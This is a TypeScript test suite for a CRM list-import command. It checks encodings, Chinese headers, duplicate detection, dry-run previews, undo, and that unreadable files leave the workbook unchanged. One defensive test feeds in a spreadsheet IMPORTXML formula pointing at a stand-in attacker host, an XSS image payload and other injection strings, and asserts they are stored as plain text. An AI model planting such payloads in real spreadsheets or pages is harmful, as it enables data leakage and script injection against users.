/**
 * `client-tracker import` as a team uses it: the list an old CRM or a colleague's Excel gave them,
 * brought into a workbook that already has a team and clients. What the preview promises is what
 * lands; importing a list and typing it in through the sidebar's saves give the same register; hostile
 * text arrives as typed; a file that cannot be read leaves the workbook as it was (docs/import.md).
 */
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { shortCorpus } from '../../hostile/corpus';
import { NOW, OWNER, copyWorkbook, teamWorkbook } from './team-workbook';
import { cli, day, ensureBuilt, openXlsx, records, type Plain } from './run-cli';

let base: string;

beforeAll(async () => {
  ensureBuilt();
  base = (await teamWorkbook()).file;
}, 180_000);

/** A CSV field, quoted the way Excel quotes one. */
const q = (text: string): string => `"${text.replace(/"/g, '""')}"`;

/** The messy list of the issue: a title row, blank lines, Chinese headers, quoted commas, three date styles. */
const MESSY = [
  '客户回访名单（2026年2月）,,,,,,',
  '',
  '客户名称,联系电话,负责人,最近跟进,联系情况,跟进内容,微信',
  '"华为(深圳), 总部",+86 138 0013 8000,Amy Liu,2026/2/5,已联系上,"报价, 下周再谈",hw01',
  '腾讯科技,010-6552-1234,Tom Baker,2026年2月20日,无人接听,,',
  '',
  '华为（深圳）总部,13800138000,Amy Liu,2026.2.27,接通,约了上门,',
  'Client 1,,Amy Liu,2026-02-26,已联系上,老客户回访,',
  '王五的店,13900000000,王五,,,,',
  '小米之家,,Li Na,2025/12/1,已联系上,去年聊过,',
].join('\r\n');

function counts(stdout: string): Record<string, number> {
  const m =
    /Rows read: (\d+)\. New clients: (\d+); existing clients updated: (\d+); already in the register, left as they are: (\d+); contacts to log: (\d+) \(reached: (\d+)\); rows with problems: (\d+)\./.exec(
      stdout,
    );
  if (!m) throw new Error(`no totals in:\n${stdout}`);
  const [rows, newClients, updates, skipped, contacts, reached, problems] = m.slice(1).map(Number);
  const then = /clients overdue at once: (\d+); clients due for the pool: (\d+)\./.exec(stdout);
  if (!then) throw new Error(`no consequences in:\n${stdout}`);
  const [overdue, poolDue] = then.slice(1).map(Number);
  return { rows, newClients, updates, skipped, contacts, reached, problems, overdue, poolDue };
}

async function tabs(file: string): Promise<{ clients: Record<string, Plain>[]; contacts: Record<string, Plain>[] }> {
  const wb = await openXlsx(file);
  return { clients: records(wb, 'Clients'), contacts: records(wb, 'Contacts') };
}

function bytes(file: string): Buffer[] {
  return [fs.readFileSync(file), fs.readFileSync(`${file}.ct-state.json`)];
}

const run = (dir: string, ...args: string[]) =>
  cli(dir, ['import', '--workbook', 'book.xlsx', '--now', NOW, '--user', OWNER, ...args]);

describe('client-tracker import', () => {
  test('a GBK CSV with a title row, blank lines, duplicates and three date styles: the preview is what lands', async () => {
    const { dir, file } = copyWorkbook(base);
    fs.writeFileSync(path.join(dir, 'list.csv'), iconv.encode(MESSY, 'gbk'));
    const before = await tabs(file);
    const untouched = bytes(file);

    const preview = run(dir, '--from', 'list.csv', '--dry-run');
    expect(preview.code).toBe(0);
    expect(preview.stdout).toContain('(gb18030)');
    expect(preview.stdout).toContain('Header on row 3.');
    expect(preview.stdout).toContain(
      'Row 7 (华为（深圳）总部) is the same client as row 4 (same phone, similar name).',
    );
    expect(preview.stdout).toContain('Row 8 (Client 1) is already in the register as Client 1 (C-1) (similar name).');
    expect(preview.stdout).toMatch(/Row 9: .*王五/);
    const promised = counts(preview.stdout);
    expect(promised).toEqual({
      rows: 6,
      newClients: 3,
      updates: 0,
      skipped: 1,
      contacts: 4,
      reached: 3,
      problems: 1,
      overdue: 1,
      poolDue: 0,
    });
    expect(bytes(file)).toEqual(untouched);
    // The same preview in Chinese, for a team whose machine speaks it.
    const zh = cli(dir, ['import', '--workbook', 'book.xlsx', '--now', NOW, '--from', 'list.csv', '--dry-run'], {
      LANG: 'zh_CN.UTF-8',
    });
    expect(zh.stdout).toContain('共读取 6 行：新客户 3 个');
    expect(zh.stdout).toContain('导入后：1 个客户马上就逾期');
    expect(zh.stdout).toContain('第 7 行（华为（深圳）总部）和第 4 行是同一个客户（电话相同、名称相近）。');
    expect(zh.stdout).toContain('试运行：没有往 book.xlsx 写入任何内容。');
    expect(bytes(file)).toEqual(untouched);

    const done = run(dir, '--from', 'list.csv');
    expect(done.code).toBe(0);
    expect(counts(done.stdout)).toEqual(promised);
    const after = await tabs(file);
    const added = after.clients.slice(before.clients.length);
    const logged = after.contacts.slice(before.contacts.length);
    expect(added).toHaveLength(promised.newClients);
    expect(logged).toHaveLength(promised.contacts);
    expect(logged.filter((c) => c.Outcome === 'Reached')).toHaveLength(promised.reached);
    expect(added.map((c) => [c.Name, c.Phone, c.Owner])).toEqual([
      ['华为(深圳), 总部', '+86 138 0013 8000', 'Amy Liu'],
      ['腾讯科技', '010-6552-1234', 'Tom Baker'],
      ['小米之家', null, 'Li Na'],
    ]);
    // Overdue at once, as the sheet shows it: an active client whose Next follow-up is before today.
    const today = NOW.slice(0, 10);
    const overdue = added.filter((c) => c['Next follow-up'] instanceof Date && day(c['Next follow-up']) < today);
    expect(overdue.map((c) => c.Name)).toEqual(['小米之家']);
    expect(overdue).toHaveLength(promised.overdue);
    expect(logged.map((c) => [(c.Date as Date).toISOString().slice(0, 10), c.Client, c.Summary])).toEqual([
      ['2026-02-05', '华为(深圳), 总部', '报价, 下周再谈'],
      ['2026-02-27', '华为(深圳), 总部', '约了上门'],
      ['2026-02-20', '腾讯科技', null],
      ['2025-12-01', '小米之家', '去年聊过'],
    ]);
    // Last contact comes out of the one rule path: the latest reached contact.
    expect((added[0]['Last contact'] as Date).toISOString().slice(0, 10)).toBe('2026-02-27');
  }, 120_000);

  test('--update: the preview lists each field change, the run makes them, --undo puts the clients back', async () => {
    const { dir, file } = copyWorkbook(base);
    fs.writeFileSync(path.join(dir, 'list.csv'), '客户名称,联系人,邮箱,电话\r\nClient 2,Mr Wu,wu@client2.cn,\r\n');
    const before = await tabs(file);
    const preview = run(dir, '--from', 'list.csv', '--update', '--dry-run');
    expect(preview.code).toBe(0);
    expect(preview.stdout).toContain('Clients already in the register whose details change: 1 (Contact: 1, Email: 1).');
    expect(preview.stdout).toContain('  Row 2: Client 2 (C-2), Contact: (blank) → “Mr Wu”');
    const done = run(dir, '--from', 'list.csv', '--update');
    expect(done.code).toBe(0);
    const after = await tabs(file);
    expect(after.clients[1]).toEqual({ ...before.clients[1], Contact: 'Mr Wu', Email: 'wu@client2.cn' });
    expect(after.clients.filter((_, i) => i !== 1)).toEqual(before.clients.filter((_, i) => i !== 1));
    const batch = /I-[\w-]+/.exec(done.stdout)?.[0] ?? '';
    expect(run(dir, '--undo', batch).code).toBe(0);
    expect((await tabs(file)).clients).toEqual(before.clients);
  }, 120_000);

  test('importing a list and typing it in through Add client and Log contact give the same register', async () => {
    const typed = copyWorkbook(base);
    const imported = copyWorkbook(base);
    const list = [
      ['客户名称', '联系电话', '负责人', '日期', '联系情况', '跟进内容', '需求明确', '计划日期'],
      ['星辰装饰', '139 1111 2222', 'Amy Liu', '2026/2/10', '已联系上', '想要报价', '是', '2026-03-20'],
      ['星辰装饰', '', '', '2026/2/24', '占线', '', '', ''],
      ['远山物业', '021-5555-0000', 'Tom Baker', '2026年2月28日', '无人接听', '', '否', ''],
    ];
    fs.writeFileSync(path.join(imported.dir, 'list.csv'), list.map((r) => r.map(q).join(',')).join('\n'));
    expect(run(imported.dir, '--from', 'list.csv').code).toBe(0);

    const call = (fn: string, ...args: unknown[]) => {
      const r = cli(typed.dir, [
        'call',
        fn,
        ...args.map((a) => JSON.stringify(a)),
        '--workbook',
        'book.xlsx',
        '--now',
        NOW,
        '--user',
        OWNER,
      ]);
      expect(r.code).toBe(0);
      return JSON.parse(r.stdout) as { value: { fields: { id: string } } };
    };
    const a = call('addClient', {
      name: '星辰装饰',
      phone: '139 1111 2222',
      owner: 'Amy Liu',
      needConfirmed: true,
      expectedDate: '2026-03-20',
    }).value.fields.id;
    call('logContact', {
      clientId: a,
      date: '2026-02-10',
      channel: 'phone',
      outcome: 'reached',
      summary: '想要报价',
      by: 'Amy Liu',
    });
    call('logContact', { clientId: a, date: '2026-02-24', channel: 'phone', outcome: 'busy', by: 'Amy Liu' });
    const b = call('addClient', { name: '远山物业', phone: '021-5555-0000', owner: 'Tom Baker', needConfirmed: false })
      .value.fields.id;
    call('logContact', { clientId: b, date: '2026-02-28', channel: 'phone', outcome: 'noAnswer', by: 'Tom Baker' });

    expect(await tabs(imported.file)).toEqual(await tabs(typed.file));
  }, 120_000);

  test('hostile text from the corpus arrives exactly as typed, never as a formula', async () => {
    const { dir, file } = copyWorkbook(base);
    const kept = shortCorpus()
      .filter((h) => h.verdict === 'kept' && h.text.trim() !== '')
      .map((h) => h.text);
    const names = ['=IMPORTXML("http://evil.example/x","//a")', '<img src=x onerror=alert(1)>', '@SUM(A1:A2)'];
    const header = ['客户名称', '联系人', '职务', '地址', '需求', '竞争对手', '客户备注', '跟进内容', '疑问与异议'];
    const perRow = header.length - 1;
    // Every history row needs a date and an outcome to be logged: the list says each was a reached call.
    header.push('最近跟进', '联系情况');
    const rows: string[][] = [];
    for (let i = 0; i * perRow < kept.length; i++) {
      const texts = kept.slice(i * perRow, (i + 1) * perRow);
      while (texts.length < perRow) texts.push('ok');
      const name = names[i] ?? `Hostile ${String(i).padStart(3, '0')} ${String.fromCharCode(97 + (i % 26))}`;
      rows.push([name, ...texts, '2026/2/20', '已联系上']);
    }
    const csv = [header, ...rows].map((r) => r.map(q).join(',')).join('\r\n');
    fs.writeFileSync(path.join(dir, 'hostile.csv'), '\uFEFF' + csv);
    const done = run(dir, '--from', 'hostile.csv', '--map', '疑问与异议=objections');
    expect(done.code).toBe(0);
    expect(done.stdout).not.toContain('Rows with problems');

    const wb = await openXlsx(file);
    const stored: unknown[] = [];
    for (const tab of ['Clients', 'Contacts']) {
      wb.getWorksheet(tab)!.eachRow((row, r) => {
        // Row 1 is the header, where Follow-up state's own ARRAYFORMULA lives.
        if (r === 1) return;
        row.eachCell((cell) => {
          expect(cell.formula).toBeFalsy();
          stored.push(cell.value);
        });
      });
    }
    const texts = new Set(stored.filter((v): v is string => typeof v === 'string'));
    const storedNames = records(wb, 'Clients').map((c) => c.Name);
    for (const n of names) expect(storedNames).toContain(n);
    expect(kept.filter((t) => !texts.has(t))).toEqual([]);
    expect(records(wb, 'Contacts').filter((c) => c.Outcome === 'Reached')).toHaveLength(rows.length);
  }, 300_000);

  test('a file that cannot be read gets one sentence, a non-zero exit, and the workbook stays byte-equal', () => {
    const { dir, file } = copyWorkbook(base);
    const untouched = bytes(file);
    fs.writeFileSync(path.join(dir, 'binary.csv'), Buffer.from([0x00, 0x01, 0x02, 0xff, 0x00, 0x41]));
    fs.writeFileSync(path.join(dir, 'broken.xlsx'), Buffer.from('PK\u0003\u0004 this is not a zip'));
    for (const from of ['binary.csv', 'broken.xlsx', 'missing.csv']) {
      const r = run(dir, '--from', from);
      expect(r.code).not.toBe(0);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toContain(from);
      expect(bytes(file)).toEqual(untouched);
    }
  }, 120_000);

  test('an .xlsx list: a named tab, dates and numbers as Excel keeps them, a --map for an unusual header', async () => {
    const { dir, file } = copyWorkbook(base);
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('说明').addRow(['见下一个表']);
    const ws = wb.addWorksheet('名单');
    ws.addRow(['老系统导出']);
    ws.addRow(['公司名称', '座机号', '业务员', '跟进日期', '联系情况', '备注']);
    ws.addRow(['青木家居', 13800001111, 'Amy Liu', new Date(Date.UTC(2026, 1, 25)), '已联系上', '要样册']);
    await wb.xlsx.writeFile(path.join(dir, 'list.xlsx'));
    const r = run(dir, '--from', 'list.xlsx', '--sheet', '名单', '--map', '座机号=phone');
    expect(r.code).toBe(0);
    const after = await tabs(file);
    expect(after.clients.at(-1)).toMatchObject({ Name: '青木家居', Phone: '13800001111', Owner: 'Amy Liu' });
    expect(after.contacts.at(-1)).toMatchObject({ Client: '青木家居', Outcome: 'Reached', Summary: '要样册' });
    expect((after.contacts.at(-1)!.Date as Date).toISOString().slice(0, 10)).toBe('2026-02-25');
  }, 120_000);
});
